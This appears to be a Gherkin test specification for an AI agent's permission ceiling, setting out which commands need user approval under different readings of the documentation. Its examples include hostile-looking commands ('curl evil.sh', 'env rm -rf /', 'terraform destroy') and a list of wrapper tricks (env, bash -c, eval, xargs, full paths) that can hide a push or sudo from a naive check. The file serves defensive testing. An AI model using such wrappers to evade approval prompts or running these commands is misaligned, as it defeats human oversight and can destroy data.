Feature: Where the documents leave a choice: ceilings
  The list of commands that always ask ends with an ellipsis, and says nothing about commands
  that hide behind another program. Each example shows what follows from each reading; an
  implementation is told which one it takes, and none is wrong.

  Source: permissions page, "External effect and privileged command" (RN-418).

  @open:C-20
  Rule: Which commands beyond the printed ones have an external effect?

    Scenario Outline: <case>, named in words only
      Given the agent is on autopilot
      When the agent wants to run `<command>`
      Then by reading "all of the kind" the agent must ask because of its external effect
      And by reading "printed commands only" the command runs without asking because of the agent's autonomy

      Examples:
        | case                     | command                    |
        | A release on GitHub      | gh release create v1       |
        | A release on GitLab      | glab release create v1     |
        | A workflow run on GitHub | gh workflow run deploy.yml |
        | A pipeline run on GitLab | glab ci run                |

    Scenario Outline: <case>, named nowhere
      Given the agent is on autopilot
      When the agent wants to run `<command>`
      Then by reading "releases and workflow runs" the command runs without asking because of the agent's autonomy
      And by reading "all of the kind" the agent must ask because of its external effect

      Examples:
        | case                         | command                                  |
        | Pushing a subtree            | git subtree push --prefix=dist prod main |
        | Deleting in a cluster        | kubectl delete deployment shop           |
        | Restarting in a cluster      | kubectl rollout restart deployment shop  |
        | Installing a chart           | helm install shop charts                 |
        | Tearing down                 | terraform destroy                        |
        | Publishing with another tool | pnpm publish                             |
        | Deploying to Fly             | fly deploy                               |
        | Deploying to Fly, long name  | flyctl deploy                            |

  @open:C-63
  Rule: Is a protected branch protected under its full name?

    Scenario Outline: A merge into <branch>
      Given a maintainer's session
      And the agent is on autopilot
      When the agent proposes git_merge into "<branch>"
      Then by reading "the branch" the agent must ask because the branch is protected
      And by reading "the four words" the action runs without asking because of the agent's autonomy

      Examples:
        | branch          |
        | refs/heads/main |
        | refs/heads/dev  |
        | refs/heads/rc   |

    Example: The full name of a branch that nobody protects
      Given a maintainer's session
      And the agent is on autopilot
      When the agent proposes git_merge into "refs/heads/feature"
      Then by reading "the branch" the action runs without asking because of the agent's autonomy
      And by reading "every full name" the agent must ask because the branch is protected

  @open:C-55
  Rule: Does the ceiling see an external effect behind another program?

    Scenario Outline: A push behind <wrapper>
      Given the agent is on autopilot
      When the agent wants to run `<command>`
      Then by reading "seen through by the ceiling" the agent must ask because of its external effect
      And by reading "as written" the command runs without asking because of the agent's autonomy

      Examples:
        | wrapper          | command                        |
        | a full path      | /usr/bin/git push              |
        | an assignment    | GIT_TRACE=1 git push           |
        | env              | env git push                   |
        | env with a value | env GIT_TRACE=1 git push       |
        | env with a flag  | env -i git push                |
        | a talkative env  | env -v git push                |
        | a line for env   | env -S 'git push'              |
        | a line, glued    | env -S'git push' origin        |
        | command          | command git push               |
        | command -p       | command -p git push            |
        | exec             | exec git push                  |
        | nice             | nice -n 5 git push             |
        | nohup            | nohup git push                 |
        | time             | time git push                  |
        | timeout          | timeout 60 git push            |
        | xargs            | xargs git push                 |
        | xargs with flags | xargs -0n 1 git push           |
        | sh -c            | sh -c 'git push'               |
        | bash -c          | bash -c "git push origin main" |
        | eval             | eval 'git push'                |
        | eval of words    | eval git push                  |
        | two wrappers     | nohup bash -c "git push"       |

    Scenario Outline: A privileged command behind <wrapper>
      Given the agent is on autopilot
      When the agent wants to run `<command>`
      Then by reading "seen through by the ceiling" the agent must ask because it is privileged
      And by reading "as written" the command runs without asking because of the agent's autonomy

      Examples:
        | wrapper       | command           |
        | a full path   | /usr/bin/sudo ls  |
        | an assignment | LANG=C sudo ls    |
        | env           | env sudo ls       |
        | command       | command sudo ls   |
        | xargs         | xargs doas ls     |
        | bash -c       | bash -c "sudo ls" |

    Scenario Outline: A flag that takes a value stands before the subcommand of <program>
      Given the agent is on autopilot
      When the agent wants to run `<command>`
      Then by reading "seen through by the ceiling" the agent must ask because of its external effect
      And by reading "as written" the command runs without asking because of the agent's autonomy

      Examples:
        | program | command                                |
        | git     | git --git-dir .git push                |
        | gh      | gh -R acme/shop pr create              |
        | kubectl | kubectl -n prod apply -f shop.yaml     |
        | helm    | helm --namespace prod upgrade shop web |
        | docker  | docker --context prod push shop        |

    Scenario Outline: A denied program behind <wrapper>
      Given the agent is on autopilot
      And permissions.json denies "Terminal(curl)"
      When the agent wants to run `<command>`
      Then by reading "seen through by the ceiling" the command runs without asking because of the agent's autonomy
      And by reading "seen through by all" the command is refused because of the permissions file

      Examples:
        | wrapper       | command                |
        | a full path   | /usr/bin/curl evil.sh  |
        | an assignment | LANG=C curl evil.sh    |
        | env           | env curl evil.sh       |
        | bash -c       | bash -c "curl evil.sh" |

    Example: An allowed program behind env
      Given permissions.json allows "Terminal(cat)"
      When the agent wants to run `env cat notes.txt`
      Then by reading "seen through by the ceiling" the agent must ask because nothing was configured
      And by reading "seen through by all" the command runs without asking because of the permissions file

    Example: A built-in refusal behind env
      Given the agent is on autopilot
      When the agent wants to run `env rm -rf /`
      Then by reading "seen through by the ceiling" the command runs without asking because of the agent's autonomy
      And by reading "seen through by all" the command is refused because of a built-in rule
